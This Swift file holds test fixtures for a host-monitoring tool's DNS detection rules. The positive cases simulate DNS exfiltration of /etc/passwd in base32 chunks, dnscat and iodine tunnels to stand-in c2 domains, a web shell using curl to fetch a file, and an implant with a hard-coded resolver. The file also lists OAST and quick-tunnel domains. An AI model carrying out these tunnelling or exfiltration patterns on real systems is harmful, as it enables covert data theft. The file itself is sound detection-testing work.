import MamoriEvents

/// Fixtures of the DNS rules (category dns_query): query shape, bursts, TXT volume, the
/// resolver used, who resolves, and the tunnelling/OAST domain list, each with the routine
/// lookup that looks most like it. Queries go to 10.0.0.2, the fixtures' configured resolver.
extension Fixtures {
    /// A deterministic base32-looking chunk of `length` characters (chunk `i` of a payload).
    static func encodedChunk(_ i: Int, length: Int) -> String {
        let alphabet = Array("abcdefghijklmnopqrstuvwxyz234567")
        var state = UInt64(i &* 2_654_435_761 &+ 97)
        return String((0..<length).map { _ in
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return alphabet[Int(state >> 59)]
        })
    }

    /// `count` queries by `actor`, one per `interval` seconds, names from `name(i)`.
    static func queries(_ actor: Actor, count: Int, type: UInt16 = 1, interval: Double = 1,
                        server: String = "10.0.0.2", _ name: (Int) -> String) -> [Step] {
        (0..<count).map { actor.dns(name($0), type: type, server: server, at: 100 + Double($0) * interval) }
    }

    static let admin = Actor(Proc.line("/usr/bin/dig", "dig +short www.example.com"), in: Trees.rootLogin)

    static let dns: [RuleFixture] = [
        RuleFixture("dns-query-to-nonstandard-port",
            positives: [
                Case("base32 chunks of /etc/passwd to a loopback listener on a high port",
                     Actor(Proc.line("/usr/bin/python3.11", "python3 -"), in: Trees.rootLogin)
                        .dns("\(encodedChunk(3, length: 30)).exfil.example", server: "127.0.0.1", port: 41_234)),
                Case("a renamed resolver name in /tmp forwarding encoded names",
                     Actor(Proc("/tmp/.r/dnsmasq", ["dnsmasq"]), in: Trees.rootLogin)
                        .dns("\(encodedChunk(4, length: 24)).t.example", server: "127.0.0.1", port: 5300)),
            ],
            negatives: [
                Case("an ordinary name to a local resolver on a custom port",
                     Actor(Proc.line("/usr/bin/dig", "dig -p 5300 @127.0.0.1 www.example.com"), in: Trees.rootLogin)
                        .dns("www.example.com", server: "127.0.0.1", port: 5300)),
                Case("the installed dnsmasq forwarding to a local upstream on 5335",
                     Actor(Proc("/usr/sbin/dnsmasq", ["/usr/sbin/dnsmasq", "-k"], unit: "dnsmasq.service"), in: Tree([Trees.systemd]))
                        .dns("\(encodedChunk(5, length: 30)).cdn.example", server: "127.0.0.1", port: 5335)),
                Case("an encoded name to port 53 (other rules judge it)",
                     admin.dns("www.example.com", server: "10.0.0.2", port: 53)),
            ]),
        RuleFixture("dns-tunnel-encoded-query",
            positives: [
                Case("a 40-character base32 label (any program)",
                     Actor(Proc.line("/usr/bin/python3", "python3 /tmp/.x/t.py"), in: Trees.rootLogin)
                        .dns("NBSWY3DPEB3W64TMMQQHEZLGMVZGK3TDMVSGC5DB.x.example.com")),
                Case("two 30-character base32 chunks below a tunnel domain",
                     admin.dns("\(encodedChunk(1, length: 30)).\(encodedChunk(2, length: 30)).tunnel-c2.net")),
            ],
            negatives: [
                Case("ordinary lookup", admin.dns("www.example.com")),
                Case("IPv6 reverse lookup (64 one-nibble labels)",
                     admin.dns("b.a.9.8.7.6.5.0.4.0.0.0.3.0.0.0.2.0.0.0.1.0.0.0.0.0.0.0.1.2.3.4.ip6.arpa", type: 12)),
                Case("DKIM selector lookup", admin.dns("selector1-example-com01b._domainkey.example.onmicrosoft.com", type: 16)),
                Case("a long but wordy CDN name", admin.dns("images-eu-west-1-production.static-content.example-cdn.com")),
                Case("a long hyphenated service name", admin.dns("prod-us-east-1-api-gateway-cluster-07.internal.example.com")),
            ]),

        RuleFixture("dns-many-encoded-subdomains",
            positives: [
                Case("one dig per chunk from a shell loop (distinct processes, one session)",
                     (0..<24).map { i in
                         Actor(Proc.line("/usr/bin/dig", "dig +short \(encodedChunk(i, length: 22)).x.c2.example"), in: Trees.rootLogin)
                             .dns("\(encodedChunk(i, length: 22)).x.c2.example", at: 100 + Double(i))
                     }),
            ],
            negatives: [
                Case("a session resolving 30 ordinary names",
                     queries(admin, count: 30) { "host\($0).internal.example.com" }),
                Case("12 encoded-looking names (below the count)",
                     queries(admin, count: 12) { "\(encodedChunk($0, length: 22)).x.c2.example" }),
            ]),

        RuleFixture("dns-txt-null-query-volume",
            positives: [
                Case("a tunnel client polling TXT records",
                     queries(Actor(Proc.line("/usr/local/bin/dnscat", "dnscat c2.example"), in: Trees.rootLogin),
                             count: 32, type: 16, interval: 0.5) { "p\($0).c2.example" }),
                Case("NULL queries (iodine downstream)",
                     queries(Actor(Proc.line("/usr/sbin/iodine", "iodine -f t.example"), in: Trees.rootLogin),
                             count: 32, type: 10, interval: 0.5) { "q\($0).t.example" }),
            ],
            negatives: [
                Case("an admin checking SPF and DMARC", queries(admin, count: 4, type: 16) { ["example.com", "_dmarc.example.com", "example.org", "_dmarc.example.org"][$0] }),
                Case("a DKIM milter verifying mail",
                     queries(Actor(Proc("/usr/sbin/opendkim", ["/usr/sbin/opendkim", "-f"]), in: Trees.unit("opendkim.service", Proc("/usr/sbin/opendkim", ["/usr/sbin/opendkim"]))),
                             count: 40, type: 16, interval: 0.5) { "s\($0)._domainkey.sender\($0).example" }),
            ]),

        RuleFixture("dns-query-to-unconfigured-resolver",
            positives: [
                Case("dig @an outside server", admin.dns("www.example.com", server: "203.0.113.53")),
                Case("an implant with a hard-coded resolver",
                     Actor(Proc.line("/tmp/.cache/agent", "/tmp/.cache/agent"), in: Trees.rootLogin).dns("update.example.net", server: "198.51.100.9")),
            ],
            negatives: [
                Case("a lookup through the configured resolver", admin.dns("www.example.com")),
                Case("the stub resolver asking upstream",
                     Actor(Proc("/usr/lib/systemd/systemd-resolved", ["/usr/lib/systemd/systemd-resolved"]), in: Trees.unit("systemd-resolved.service", Proc("/usr/lib/systemd/systemd-resolved", ["/usr/lib/systemd/systemd-resolved"])))
                        .dns("www.example.com", server: "1.1.1.1")),
                Case("a loopback stub (dnsmasq on 127.0.0.1)", admin.dns("www.example.com", server: "127.0.0.1")),
            ]),

        RuleFixture("dns-lookup-by-service-spawned-shell",
            positives: [
                Case("curl started by a web shell resolves its download host",
                     Actor(Proc.line("/usr/bin/curl", "curl -s http://dl.example.net/x", uid: 33), in: Trees.webShell).dns("dl.example.net")),
                Case("the web shell itself pings a name",
                     Actor(Proc.shell("ping -c1 callback.example.net", unit: "php8.2-fpm.service", uid: 33), in: Trees.phpFpm).dns("callback.example.net")),
            ],
            negatives: [
                Case("the nginx worker resolving an upstream",
                     Actor(Proc("/usr/sbin/nginx", ["nginx: worker process"], unit: "nginx.service", uid: 33), in: Tree([Trees.nginxMaster, Trees.systemd]))
                        .dns("backend.internal.example")),
                Case("a shell in a login session", admin.dns("dl.example.net")),
            ]),

        RuleFixture("dns-tunnel-or-oast-service-domain",
            positives: [
                Case("interactsh OAST callback", admin.dns("c7a1b2d3e4f5.oast.fun")),
                Case("a Cloudflare quick tunnel", admin.dns("pretty-random-words.trycloudflare.com")),
            ],
            negatives: [
                Case("cloudflare itself", admin.dns("www.cloudflare.com")),
                Case("a name merely containing ngrok", admin.dns("ngrok.io.example.com")),
            ]),
    ]
}
